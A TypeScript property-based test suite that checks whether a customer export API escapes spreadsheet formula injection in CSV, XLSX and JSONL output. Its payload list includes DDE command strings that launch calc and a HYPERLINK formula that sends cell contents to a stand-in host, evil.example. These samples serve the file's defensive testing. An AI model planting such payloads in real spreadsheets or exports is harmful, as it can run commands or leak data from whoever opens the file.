import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import readSheet from 'read-excel-file/node'
import assert from 'node:assert/strict'
import { after, before, suite, test } from 'node:test'
import { kinds } from '../testing/databases.ts'
import { startServer, type TestServer } from '../testing/harness.ts'
import { escaped } from '../exports/csv.ts'

const seed = 20_261_129
const columns = [
  'name',
  'type',
  'email',
  'phone',
  'website',
  'description',
  'organisationNumber',
  'country',
  'line1',
  'city',
  'contact',
  'language',
  'currency',
]

/** What a spreadsheet would run, or what it was told not to, and texts that only look like it. */
const payloads = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=1+1',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  "'=1+1",
  "''=1+1",
  "'",
  "''",
  "'t Hooft",
  '"=1+1"',
  '""',
  ';=1+1',
  ',=1+1',
  'a,"b",\'c\'',
  'a;b|c',
  '_x000D_',
  '_x005F_x000D_',
  'x_x0041_',
  '<b>&amp;',
  ']]>',
  '\ufffe',
  '0012',
  '1e5',
  'TRUE',
  '2026-11-29',
  '٣٤',
  'é ́',
  '🎈',
]

// As the API keeps it: trimmed, with no control characters, and several lines only where they are allowed.
const piece = fc.oneof(
  fc.constantFrom(...payloads),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 20 }),
)
const printable = (text: string) =>
  text
    .toWellFormed()
    .replace(/[\u0000-\u001f\u007f-\u009f]/g, '')
    .trim()
const text = fc.tuple(piece, piece).map((parts) => printable(parts.join('')).slice(0, 38).toWellFormed().trim() || 'x')
const lines = fc
  .array(text, { minLength: 1, maxLength: 3 })
  .chain((parts) => fc.constantFrom('\n', '\r\n', '\r', '\n\t').map((end) => parts.join(end).trim() || 'x'))
const customer = fc.record(
  {
    name: text,
    type: fc.constantFrom('company', 'individual'),
    email: fc.emailAddress().filter((email) => email.length < 100 && /^[a-z0-9.]+@/i.test(email)),
    phone: text,
    website: fc.constantFrom('https://a.example/?q="1"', 'http://b.example/=x,y'),
    description: lines,
    organisationNumber: text,
    country: fc.constantFrom('NO', 'DE', 'JP'),
    address: fc.record({ line1: text, city: text }, { requiredKeys: [] }),
    contact: fc.record({ name: text }),
    language: fc.constantFrom('nb', 'pt-BR'),
    currency: fc.constantFrom('NOK', 'JPY', 'KWD'),
  },
  { requiredKeys: ['name'] },
)

for (const kind of kinds)
  suite(`what is exported is what was there, on ${kind}`, () => {
    let server: TestServer
    let ids: string[]
    let wanted: (string | null)[][]
    before(async () => {
      server = await startServer({ kind, background: false })
      const call = (method: string, path: string, body?: object) => server.call(server.people.northAdmin, method, `/v1${path}`, body)
      const named = payloads.map((name) => ({ name, description: name, contact: { name } }))
      const made = []
      for (const body of [...named, ...fc.sample(customer, { numRuns: 150, seed })]) made.push(await call('POST', '/customers', body))
      const refused = made.filter(({ status }) => status !== 201)
      assert.ok(refused.length < made.length / 20, refused.map(({ text }) => text).join('\n'))
      const kept = made.filter(({ status }) => status === 201).map(({ body }) => body)
      ids = kept.map(({ id }) => id as string)
      wanted = kept.map((each) =>
        columns.map((name) => {
          if (name === 'contact') return each.contact?.name ?? null
          return (name === 'line1' || name === 'city' ? each.address?.[name] : each[name]) ?? null
        }),
      )
    })
    after(() => server.stop())

    const fetched = async (format: string) => {
      const { northAdmin } = server.people
      const made = await server.call(northAdmin, 'POST', '/v1/exports', { format, columns, customers: ids })
      const headers = { authorization: `Bearer ${await server.tokenOf(northAdmin)}` }
      const response = await server.app.fetch(new Request(`http://api.test/v1/exports/${made.body.id}/file`, { headers }))
      return Buffer.from(await response.arrayBuffer())
    }

    test('DAT-2 as CSV: no cell begins as a formula does, and with one apostrophe taken back each text is as it was', async () => {
      const rows = parse(await fetched('csv'), { from_line: 2 })
      for (const cell of rows.flat()) assert.ok(!/^[=+\-@\t\r\n＝＋－＠]/.test(cell), cell)
      const read = rows.map((row) => row.map((cell) => (escaped.test(cell) ? cell.slice(1) : cell) || null))
      assert.deepEqual(read, wanted)
    })

    test('DAT-2 as a workbook: each text is as it was, and none is a formula', async () => {
      const bytes = await fetched('xlsx')
      const rows = (await readSheet(bytes, { trim: false }))[0]!.data.slice(1)
      assert.equal(rows.length, wanted.length)
      for (const [at, row] of rows.entries())
        assert.deepEqual(
          row.map((cell) => cell ?? null),
          wanted[at],
        )
    })

    test('DAT-2 as lines of JSON: each text is as it was', async () => {
      const rows = (await fetched('jsonl'))
        .toString()
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line))
      assert.deepEqual(
        rows.map((each) => [each.name, each.description, each.address?.line1 ?? null, each.contact?.name ?? null]),
        wanted.map((row) => [row[0], row[5], row[8], row[10]]),
      )
    })
  })
